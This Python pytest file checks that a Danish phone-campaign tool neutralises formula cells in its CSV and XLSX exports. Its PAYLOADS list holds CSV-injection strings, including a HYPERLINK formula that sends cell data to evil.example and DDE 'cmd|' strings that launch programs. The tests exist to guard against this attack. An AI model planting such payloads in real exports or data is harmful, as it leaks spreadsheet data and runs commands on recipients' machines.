"""Every CSV/XLSX export neutralises formula cells: malicious text that came in through
a list import (company names, contact persons, addresses, extra columns), a phoner's
name and notes goes out through the rejects file, the clearing sheet, every report in
CSV and XLSX, and the leads export, and never comes back as something Excel would run."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlmodel import select

from phoner.core import campaigns, demo, reports
from phoner.core.db import Database
from phoner.core.lists import clearing, importer, signoff
from phoner.core.models import Campaign, Company, Jobcenter, Outcome, Round, RoundState
from phoner.core.queue import claims, outcomes
from phoner.core.reports.leads import leads_report
from phoner.formats import report_output
from tests.support.fuzz.safety import count_cells, csv_problems, unsafe_text, xlsx_problems

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/c notepad'!'A1'",
    "\t=1+1",
    "-1+1",  # arithmetic only: harmless either way
]
MARK = "cmd|"
HEADERS = [*demo.HEADERS, "Bemærkning"]


def _rows() -> list[dict[str, str]]:
    rows = []
    base = demo.demo_rows(2 * len(PAYLOADS), seed=7)
    for i, payload in enumerate(PAYLOADS):
        good = dict(base[i], Kommune="Ringsted")
        good.update(
            {
                "Firmanavn": payload,
                "Kontaktperson": payload,
                "Adresse": payload,
                "By": payload,
                "Bemærkning": payload,
            }
        )
        rows.append(good)
        bad = dict(base[len(PAYLOADS) + i], Kommune="Ringsted")
        bad.update({"Firmanavn": payload, "Telefon": payload, "Bemærkning": payload})
        rows.append(bad)  # no valid phone: rejected, written to the rejects file
    return rows


def _write_list(path: Path) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=HEADERS, delimiter=";")
        writer.writeheader()
        writer.writerows(_rows())
    return path


@pytest.fixture
def poisoned(sqlite_db: Database, tmp_path: Path) -> tuple[Database, int, Path]:
    """A campaign whose list, phoner names and notes are full of formulas."""
    db = sqlite_db
    src = _write_list(tmp_path / "liste.csv")
    with db.session(write=True) as s:
        camp = campaigns.create_campaign(
            session=s, name="Injektion", script=REPO / "scripts" / "fleksjob.toml"
        )
        summary = importer.import_list(
            session=s, campaign=camp, path=src, rejects_path=tmp_path / "afviste.csv"
        )
        assert summary.imported == len(PAYLOADS) and summary.rejected == len(PAYLOADS)
        jc = s.exec(select(Jobcenter)).one()
        clearing.clearing_export(
            session=s, campaign=camp, jobcenter=jc, out=tmp_path / "clearing.xlsx"
        )
        signoff.sign_off(session=s, campaign=camp, jobcenter=jc, by="=1+1", force=True)
        assert camp.id is not None
        rnd = Round(campaign_id=camp.id, number=1, state=RoundState.ACTIVE)
        s.add(rnd)
        s.flush()
        for co in s.exec(select(Company)).all():
            co.round_id = rnd.id
            s.add(co)
        campaign_id = camp.id
    for i, payload in enumerate(PAYLOADS):
        claim = claims.claim_next(db=db, campaign_id=campaign_id, phoner=payload, ignore_hours=True)
        assert claim is not None
        outcomes.record_outcome(
            db=db,
            company_id=claim.company_id,
            lease_token=claim.lease_token,
            phoner=payload,
            outcome=Outcome.VIL_KONTAKTES if i % 2 == 0 else Outcome.IKKE_INTERESSERET,
            answers={"opgaver": payload},
            needs={"jobtype": payload, "noter": payload},
            note=payload,
        )
    return db, campaign_id, tmp_path


def test_payloads_survive_the_import_verbatim(poisoned: tuple[Database, int, Path]) -> None:
    db, _cid, _tmp = poisoned
    with db.session() as s:
        names = sorted(c.name for c in s.exec(select(Company)).all())
    # stored as typed (the apostrophe is for spreadsheets only); tab/space trimmed
    assert names == sorted(p.strip() for p in PAYLOADS)


def test_rejects_file_and_clearing_sheet_are_neutralised(
    poisoned: tuple[Database, int, Path],
) -> None:
    _db, _cid, tmp = poisoned
    rejects = tmp / "afviste.csv"
    assert count_cells(rejects, MARK) > 0
    assert csv_problems(rejects) == []
    sheet = tmp / "clearing.xlsx"
    assert count_cells(sheet, MARK) > 0
    assert xlsx_problems(sheet) == []


@pytest.mark.parametrize("name", ["rounds", "rates", "followups", "visits", "phoners", "leads"])
def test_every_report_is_neutralised_in_csv_and_xlsx(
    poisoned: tuple[Database, int, Path], name: str
) -> None:
    db, campaign_id, tmp = poisoned
    with db.session() as s:
        camp = s.get(Campaign, campaign_id)
        assert camp is not None
        if name == "leads":
            report = leads_report(session=s, campaign=camp)
        else:
            report = reports.build_report(name, session=s, campaign=camp)
    csv_path = report_output.write_csv(report, tmp / f"{name}.csv")
    xlsx_path = report_output.write_xlsx(report, tmp / f"{name}.xlsx")
    assert csv_problems(csv_path) == []
    assert xlsx_problems(xlsx_path) == []
    if name in ("phoners", "leads"):  # these carry the phoner names / notes
        assert count_cells(csv_path, MARK) > 0 and count_cells(xlsx_path, MARK) > 0


def test_the_checker_itself_catches_formulas(tmp_path: Path) -> None:
    """The checks above would fail on an unprotected export."""
    assert unsafe_text("=1+1") and unsafe_text("@SUM(A1)") and unsafe_text("+cmd|x")
    assert not unsafe_text("+45 33 12 34 56") and not unsafe_text("-12") and not unsafe_text("")
    raw = tmp_path / "raw.csv"
    raw.write_text("Navn;By\n=1+1;Køge\n", encoding="utf-8")
    assert len(csv_problems(raw)) == 1
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(['=HYPERLINK("http://x","y")'])
    wb.save(tmp_path / "raw.xlsx")
    assert len(xlsx_problems(tmp_path / "raw.xlsx")) == 1
